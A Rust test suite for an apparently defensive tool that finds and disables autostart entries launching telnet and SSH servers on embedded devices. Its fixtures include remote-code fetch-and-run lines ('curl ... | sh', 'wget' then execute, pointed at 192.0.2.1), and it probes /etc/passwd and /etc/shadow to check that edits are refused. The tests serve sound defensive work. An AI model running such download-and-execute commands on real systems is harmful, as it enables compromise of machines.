//! Start files in a root of their own: found, changed, run.

use super::*;
use crate::os::files;
use komainu_core::wall::policy::Policy;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

/// A root of its own, with these files.
struct Root(PathBuf);

impl Root {
    fn new(name: &str, made: &[(&str, &str, u32)]) -> Root {
        let folder = std::env::temp_dir().join(format!("komainu-starters-{}-{name}", std::process::id()));
        fs::create_dir_all(&folder).unwrap();
        let root = Root(fs::canonicalize(folder).unwrap());
        for (name, bytes, mode) in made {
            root.write(name, bytes, *mode);
        }
        root
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }

    fn write(&self, name: &str, bytes: &str, mode: u32) {
        fs::create_dir_all(self.path(name).parent().unwrap()).unwrap();
        files::replace_as(&self.path(name), bytes.as_bytes(), mode).unwrap();
    }

    fn text(&self, name: &str) -> String {
        fs::read_to_string(self.path(name)).unwrap()
    }

    fn stop(&self, autostart: &Autostart, one: &FoundAutostart) -> Result<Option<Kind>, Text> {
        autostart.stop_starting(&self.path("state"), &one.file, one.starter.line, &one.starter.says, 7)
    }

    fn found(&self, autostart: &mut Autostart) -> Vec<(String, u32)> {
        let look = autostart.look();
        let inside = |file: &str| file[self.0.as_os_str().len() + 1..].to_owned();
        look.found.iter().map(|one| (inside(&one.file), one.starter.line)).collect()
    }
}

impl Drop for Root {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

#[test]
fn what_starts_telnet_is_found_in_every_place_and_taken_away() {
    let root = Root::new(
        "all",
        &[
            ("etc/inittab", "::sysinit:/etc/init.d/rcS\n::respawn:telnetd -F\n", 0o644),
            ("etc/init.d/S50telnet", "#!/bin/sh\nset -e\ntelnetd -l /bin/login &\necho $?\n", 0o755),
            ("var/spool/cron/crontabs/root", "@reboot telnetd\n", 0o600),
            ("etc/systemd/system/telnet@.service", "[Service]\nExecStart=-/usr/sbin/in.telnetd\n", 0o644),
            ("etc/systemd/system/telnet.txt", "ExecStart=-/usr/sbin/in.telnetd\n", 0o644),
            ("etc/systemd/system/x.service.d/a.conf", "[Service]\nExecStart=/usr/sbin/telnetd\n", 0o644),
            ("etc/init.d/S60binary", "\x7fELF\ntelnetd\n", 0o755),
            ("etc/rc.d/init.d/net", "taskset 2 utelnetd\n", 0o755),
            ("etc/ppp/ip-up", "telnetd\n", 0o755),
            ("etc/network/if-up.d/x", "telnetd\n", 0o755),
            ("etc/hotplug.d/usb/10-x", "telnetd\n", 0o755),
            ("jffs/scripts/services-start", "telnetd\n", 0o755),
            ("opt/etc/init.d/S01x", "telnetd\n", 0o755),
            ("lib/preinit/99_x", "telnetd\n", 0o755),
        ],
    );
    fs::create_dir_all(root.path("etc/rc.d")).unwrap();
    symlink("../init.d/S50telnet", root.path("etc/rc.d/S50telnet")).unwrap();
    symlink("/etc/passwd", root.path("etc/rc.d/S51out")).unwrap();
    symlink("nowhere", root.path("etc/rc.d/S52nowhere")).unwrap();
    nix::unistd::mkfifo(&root.path("etc/init.d/S99pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let mut autostart = Autostart::new(&root.0);
    let all = [
        ("etc/inittab", 2),
        ("etc/init.d/S50telnet", 3),
        ("etc/rc.d/init.d/net", 1),
        ("opt/etc/init.d/S01x", 1),
        ("jffs/scripts/services-start", 1),
        ("lib/preinit/99_x", 1),
        ("etc/hotplug.d/usb/10-x", 1),
        ("etc/ppp/ip-up", 1),
        ("etc/network/if-up.d/x", 1),
        ("etc/systemd/system/telnet@.service", 2),
        ("etc/systemd/system/x.service.d/a.conf", 2),
        ("var/spool/cron/crontabs/root", 1),
    ];
    assert_eq!(root.found(&mut autostart), all.map(|(file, line)| (file.to_owned(), line)));
    for one in autostart.look().found {
        assert_eq!(one.fixed, None, "{one:?}");
        assert_eq!(root.stop(&autostart, &one), Ok(Some(one.kind)));
        assert_eq!(root.stop(&autostart, &one), Ok(None), "once more does nothing");
    }
    assert_eq!(root.found(&mut autostart), []);
    let left = fs::read_dir(root.path("etc")).unwrap().flatten();
    assert!(left.into_iter().all(|entry| !entry.file_name().to_string_lossy().contains("komainu")));
    let script = root.path("etc/init.d/S50telnet");
    assert_eq!(root.text("etc/init.d/S50telnet"), "#!/bin/sh\nset -e\ntrue -l /bin/login &\necho $?\n");
    assert_eq!(fs::metadata(&script).unwrap().permissions().mode() & 0o777, 0o755);
    let heard = nix::sys::stat::stat(&root.path("var/spool/cron/crontabs/root")).unwrap();
    assert_eq!(heard.st_mode & 0o777, 0o600);
}

#[test]
fn many_files_of_users_hide_none_of_roots() {
    let root = Root::new("users", &[("etc/init.d/S50telnet", "telnetd\n", 0o755)]);
    let tables = root.path("var/spool/cron/crontabs");
    fs::create_dir_all(&tables).unwrap();
    fs::set_permissions(&tables, fs::Permissions::from_mode(0o777)).unwrap();
    for number in 0..FILES_MAX + 1 {
        crate::os::files::replace(&tables.join(format!("u{number}")), b"@reboot telnetd\n").unwrap();
    }
    let mut autostart = Autostart::new(&root.0);
    assert_eq!(root.found(&mut autostart)[0].0, "etc/init.d/S50telnet");
    let look = autostart.look();
    assert_eq!(look.found.len(), 1 + OTHERS_MAX);
    assert!(look.unread.unwrap().contains("others than root can write"));
}

#[test]
fn scripts_that_scripts_call_are_followed_and_what_is_not_read_is_said() {
    let root = Root::new(
        "follow",
        &[
            ("etc/init.d/rcS", "#!/bin/sh\nD=/app/bin\n$D/main.sh &\n. /lib/net.sh\nserve\nboot.sh\n", 0o755),
            ("app/bin/main.sh", "#!/bin/sh\nfor i in /custom/*.rc; do sh $i; done\n", 0o755),
            ("custom/a.rc", "telnetd\n", 0o644),
            ("etc/init.d/functions", "#!/bin/sh\nmore() { telnetd; }\n", 0o755),
            ("etc/init.d/S01", "#!/bin/sh\n. /etc/init.d/functions\nmore\n", 0o755),
            ("lib/net.sh", "serve() { utelnetd; }\nnever() { telnetd; }\n", 0o644),
            ("usr/sbin/boot.sh", "telnetd\n", 0o755),
            ("unused/x.sh", "telnetd\n", 0o755),
        ],
    );
    let mut autostart = Autostart::new(&root.0);
    let mut found = root.found(&mut autostart);
    found.sort();
    let all = [("custom/a.rc", 1), ("etc/init.d/functions", 2), ("lib/net.sh", 1), ("usr/sbin/boot.sh", 1)];
    assert_eq!(found, all.map(|(file, line)| (file.to_owned(), line)));
    assert_eq!(autostart.look().unread, None);
    assert_eq!(root.found(&mut autostart).len(), all.len(), "and again, as it was remembered");
    root.write("custom/b.rc", "x=$(pick)\n\n$x now\n", 0o644);
    let unread = autostart.look().unread.unwrap();
    let expected = format!(
        "{} line 3: it runs a program that only a running shell can name",
        root.path("custom/b.rc").display()
    );
    assert_eq!(*unread, *expected);
}

/// Scripts, and the calls that are gone after the edit. `ROOT` is the root; `note` stands for anything.
const RUNS: &[(&str, &[&str])] = &[
    ("taskset 2 utelnetd -p 23 &\nwait\nnote a\n", &["taskset 2 utelnetd -p 23"]),
    ("BB=busybox\n$BB telnetd -l '/bin/sh x'\n$BB note\n", &["busybox telnetd -l /bin/sh x"]),
    (
        ". ROOT/etc/default/dropbear\n[ \"$NO_START\" = 0 ] && start-stop-daemon -S -x ROOT/usr/sbin/dropbear -- $EXTRA\nnote $EXTRA\n",
        &["start-stop-daemon -S -x ROOT/usr/sbin/dropbear -- -p 22"],
    ),
    (
        "LOCK=ROOT/sshd\n: > $LOCK\nROOT/usr/sbin/sshd -D\nrm -f $LOCK\n[ -e $LOCK ] || note gone\n",
        &["sshd -D"],
    ),
    (
        "start() {\n  telnetd -F &\n}\nstop() { killall telnetd; }\ncase \"${1:-start}\" in\nstart) start ;;\nstop) stop ;;\n\
         telnetd) note label ;;\nesac\nwait\n",
        &["telnetd -F"],
    ),
    (
        "cat > ROOT/text <<END\ntelnetd -x\nEND\nread -r line < ROOT/text\nnote \"$line\"\ntelnetd\n",
        &["telnetd"],
    ),
    (
        "if telnetd -t; then note yes; else note no; fi\n! telnetd -u || note never\n",
        &["telnetd -t", "telnetd -u"],
    ),
    ("sh -c 'note in; telnetd -l \"a b\"; note out' && (telnetd -s)\n", &["telnetd -l a b", "telnetd -s"]),
    ("x=$(telnetd; note sub)\nnote \"$x\" `telnetd -q`\n", &["telnetd", "telnetd -q"]),
    ("for s in telnetd; do\n  $s -x\n  note $s\ndone\n", &["telnetd -x"]),
    ("(exec telnetd -F)\nnote after\n", &["telnetd -F"]),
    ("ROOT/etc/init.d/dropbear enabled && note on\nROOT/etc/init.d/dropbear start\n", &["dropbear start"]),
    ("go() {\n  note \"$1\"\n  \"$@\"\n}\ngo note x\ngo telnetd -F\n", &["note telnetd", "telnetd -F"]),
    ("wget -O ROOT/tmp/x http://192.0.2.1/x\nchmod +x ROOT/tmp/x && ROOT/tmp/x -y\nnote\n", &["x -y"]),
    ("curl -s http://192.0.2.1/i | sh\nnote\n", &["curl -s http://192.0.2.1/i"]),
    (
        "while :; do\n  telnetd \\\n    -l x # why\n  break\ndone\nexport P='telnetd'; $P && note \"$P\"\n",
        &["telnetd -l x", "telnetd"],
    ),
];

#[test]
fn a_script_that_was_changed_makes_the_same_calls_but_one_and_reaches_its_end() {
    let root = Root::new("runs", &[("etc/default/dropbear", "NO_START=0\nEXTRA='-p 22'\n", 0o644)]);
    let stand_in = "#!/bin/sh\necho \"${0##*/}${1:+ $*}\" >> \"$CALLS\"\n";
    for name in
        ["taskset", "busybox", "telnetd", "utelnetd", "start-stop-daemon", "killall", "wget", "curl", "note"]
    {
        root.write(&format!("stand-ins/{name}"), stand_in, 0o755);
    }
    for name in ["usr/sbin/sshd", "usr/sbin/dropbear", "etc/init.d/dropbear", "tmp/x"] {
        root.write(name, stand_in, 0o755);
    }
    let shells = [&["/bin/dash"][..], &["/bin/bash"], &["/bin/busybox", "ash"]];
    let shells: Vec<_> = shells.into_iter().filter(|shell| Path::new(shell[0]).exists()).collect();
    assert!(!shells.is_empty(), "there is no shell to try scripts with");
    let path = format!("{}:/usr/bin:/bin", root.path("stand-ins").display());
    let run = |shell: &[&str]| {
        let calls = root.path("calls");
        let _ = fs::remove_file(&calls);
        let mut command = std::process::Command::new(shell[0]);
        command.args(&shell[1..]).arg(root.path("etc/rc.local")).env("CALLS", &calls).env("PATH", &path);
        assert_eq!(command.status().unwrap().code(), Some(0), "{shell:?}: {}", root.text("etc/rc.local"));
        let mut calls: Vec<String> = fs::read_to_string(&calls).unwrap().lines().map(str::to_owned).collect();
        assert_eq!(calls.pop().as_deref(), Some("note the end"));
        calls.sort();
        calls
    };
    for (script, gone) in RUNS {
        for shell in &shells {
            // Busybox runs programs that it has itself before those in a folder: it must never start its own server.
            let is_busybox = shell.len() > 1;
            if is_busybox
                && ["start-stop-daemon", "wget", "busybox", "curl"].iter().any(|name| script.contains(name))
            {
                continue;
            }
            let place = root.0.display().to_string();
            let adapted = |text: &str| {
                let text = text.replace("ROOT", &place);
                if is_busybox {
                    text.replace("utelnetd", "telnetd").replace("telnetd", "utelnetd")
                } else {
                    text
                }
            };
            root.write("etc/rc.local", &["set -e\n", &adapted(script), "note the end\n"].concat(), 0o755);
            let mut before = run(shell);
            let mut autostart = Autostart::new(&root.0);
            while let Some(one) = autostart.look().found.first() {
                assert_eq!(root.stop(&autostart, one), Ok(Some(Kind::Script)), "{one:?}");
            }
            for call in *gone {
                let call = adapted(call);
                let at = before.iter().position(|one| call == *one || call.ends_with(&format!(" {one}")));
                before.remove(at.unwrap_or_else(|| panic!("{shell:?}: {call} of {before:?}")));
            }
            assert_eq!(run(shell), before, "{shell:?}: {}", root.text("etc/rc.local"));
        }
    }
}

#[test]
fn an_edit_is_remembered_and_taken_back() {
    let strict = crate::config::wall_settings::strict();
    let script = "#!/bin/sh\nnote\n/usr/sbin/dropbear -R\n";
    let root = Root::new(
        "back",
        &[("etc/init.d/S50ssh", script, 0o755), ("etc/inittab", "::once:dropbear\n", 0o644)],
    );
    let state = root.path("state");
    let mut autostart = Autostart::new(&root.0);
    for one in autostart.look().found {
        root.stop(&autostart, &one).unwrap();
    }
    assert_eq!(root.text("etc/inittab"), "# komainu: ::once:dropbear\n");
    assert_eq!(autostart.take_back(&state, &strict, true), [] as [Text; 0], "it holds");
    assert_eq!(root.text("etc/inittab"), "# komainu: ::once:dropbear\n");
    // Others changed one file since, and the other's line is gone.
    root.write("etc/init.d/S50ssh", "#!/bin/sh\nmore\nnote\ntrue -R\n", 0o755);
    root.write("etc/inittab", "::once:other\n", 0o644);
    let told = autostart.take_back(&state, &Policy { ssh: true, ..strict.clone() }, true);
    assert_eq!(root.text("etc/init.d/S50ssh"), "#!/bin/sh\nmore\nnote\n/usr/sbin/dropbear -R\n");
    assert_eq!(root.text("etc/inittab"), "::once:other\n");
    assert_eq!(told.len(), 2, "{told:?}");
    assert!(told.iter().any(|what| what.contains("inittab line 1 stays without")), "{told:?}");
    assert_eq!(autostart.take_back(&state, &strict, false), [] as [Text; 0], "nothing is left to take back");
    // Nothing is enforced any more.
    let one = autostart.look().found.remove(0);
    root.stop(&autostart, &one).unwrap();
    assert_eq!(autostart.take_back(&state, &strict, false).len(), 1);
    assert_eq!(root.text("etc/init.d/S50ssh"), "#!/bin/sh\nmore\nnote\n/usr/sbin/dropbear -R\n");
}

#[test]
fn what_the_devices_shell_cannot_read_is_not_changed() {
    let root = Root::new("proof", &[("etc/rc.local", "#!/bin/sh\ntelnetd\nif then ((\n", 0o755)]);
    let mut autostart = Autostart::new(&root.0);
    let one = autostart.look().found.remove(0);
    assert_eq!(one.fixed.as_deref(), Some("/bin/sh -n cannot read it even now"));
    assert!(root.stop(&autostart, &one).is_err());
    // Where others than root may write, nothing is changed.
    root.write("etc/rc.local", "telnetd\n", 0o755);
    fs::set_permissions(root.path("etc"), fs::Permissions::from_mode(0o777)).unwrap();
    let one = autostart.look().found.remove(0);
    assert!(one.fixed.is_some() && root.stop(&autostart, &one).is_err());
    assert_eq!(root.text("etc/rc.local"), "telnetd\n");
}

#[test]
fn an_unchanged_file_is_not_read_again_and_a_changed_one_is() {
    let root = Root::new("kept", &[("etc/inittab", "::respawn:telnetd\n", 0o644)]);
    let mut autostart = Autostart::new(&root.0);
    assert_eq!(root.found(&mut autostart).len(), 1);
    // The remembered lines are told, until the file changes.
    autostart.read[0].reading.entries.clear();
    assert_eq!(root.found(&mut autostart), []);
    root.write("etc/inittab", "::respawn:telnetd\n", 0o644);
    assert_eq!(root.found(&mut autostart).len(), 1);
    fs::remove_file(root.path("etc/inittab")).unwrap();
    assert_eq!(root.found(&mut autostart), []);
}

#[test]
fn a_link_in_the_place_of_a_file_stays_one() {
    let root = Root::new("link", &[("var/inetd.conf", "telnet stream tcp nowait root telnetd\n", 0o640)]);
    fs::create_dir_all(root.path("etc")).unwrap();
    symlink("../var/inetd.conf", root.path("etc/inetd.conf")).unwrap();
    let mut autostart = Autostart::new(&root.0);
    let one = autostart.look().found.remove(0);
    root.stop(&autostart, &one).unwrap();
    assert!(fs::symlink_metadata(root.path("etc/inetd.conf")).unwrap().is_symlink());
    assert_eq!(root.text("var/inetd.conf"), "# komainu: telnet stream tcp nowait root telnetd\n");
}

#[test]
fn too_much_is_said_and_never_changed() {
    let long = ["telnetd &\n", &"#\n".repeat(40_000)].concat();
    let root = Root::new("much", &[("etc/rc.local", &long, 0o755)]);
    let mut autostart = Autostart::new(&root.0);
    let look = autostart.look();
    assert!(look.unread.is_some() && look.found[0].fixed.is_some());
    assert!(root.stop(&autostart, &look.found[0]).is_err());
    let state = root.path("state");
    assert!(autostart.stop_starting(&state, "/etc/shadow", 1, "x", 0).is_err());
    for number in 0..FILES_MAX + 10 {
        root.write(&format!("etc/init.d/S{number}"), ":\n", 0o755);
    }
    let unread = autostart.look().unread.unwrap();
    assert!(unread.contains("larger") || unread.contains("was not read"), "{unread}");
}

#[test]
fn only_the_process_that_was_meant_is_told() {
    let child = std::process::Command::new("sleep").arg("60").spawn();
    let mut child = child.unwrap();
    let began = started(child.id()).unwrap();
    tell(ProcessId { pid: child.id(), started: began + 1 }).unwrap();
    assert_eq!(started(child.id()), Some(began), "it was another one's number");
    tell(ProcessId { pid: child.id(), started: began }).unwrap();
    assert!(!child.wait().unwrap().success());
    tell(ProcessId { pid: child.id(), started: began }).unwrap();
}

#[test]
fn an_unchanged_device_is_not_walked_through_again_and_every_change_is_seen_at_once() {
    let root = Root::new(
        "glance",
        &[
            ("etc/init.d/S01", "#!/bin/sh\nboot.sh\n/app/start.sh\n", 0o755),
            ("etc/hotplug.d/usb/1", "true\n", 0o755),
            ("usr/sbin/x", "", 0o755),
        ],
    );
    let mut autostart = Autostart::new(&root.0);
    let calm = |autostart: &mut Autostart| {
        // The first look finds the names, the second knows them from before, the third needs no walk.
        for _ in 0..2 {
            autostart.look();
        }
        let walks = autostart.walks;
        autostart.look();
        assert_eq!(autostart.walks, walks, "nothing has changed");
    };
    calm(&mut autostart);
    let mut expected = 0;
    for (change, name) in [
        ("a script that is called and was not there", "app/start.sh"),
        ("a script in a folder of programs", "usr/sbin/boot.sh"),
        ("another file in a folder", "etc/init.d/S02"),
        ("a folder that was not there", "etc/rc.d/S03"),
        ("a file in a folder of a folder", "etc/hotplug.d/usb/2"),
        ("a folder in there", "etc/hotplug.d/net/1"),
        ("a single file", "etc/rc.local"),
    ] {
        root.write(name, "telnetd\n", 0o755);
        expected += 1;
        assert_eq!(autostart.look().found.len(), expected, "{change}");
        calm(&mut autostart);
    }
    // In place, of the same length, with its time set back.
    let script = root.path("etc/init.d/S02");
    let before = fs::metadata(&script).unwrap().modified().unwrap();
    let mut file = fs::File::options().write(true).truncate(true).open(&script).unwrap();
    std::io::Write::write_all(&mut file, b"silentd\n").unwrap();
    file.set_modified(before).unwrap();
    assert_eq!(autostart.look().found.len(), expected - 1, "the same length and time");
    calm(&mut autostart);
    fs::remove_file(root.path("etc/rc.local")).unwrap();
    assert_eq!(autostart.look().found.len(), expected - 2, "a file is gone");
}
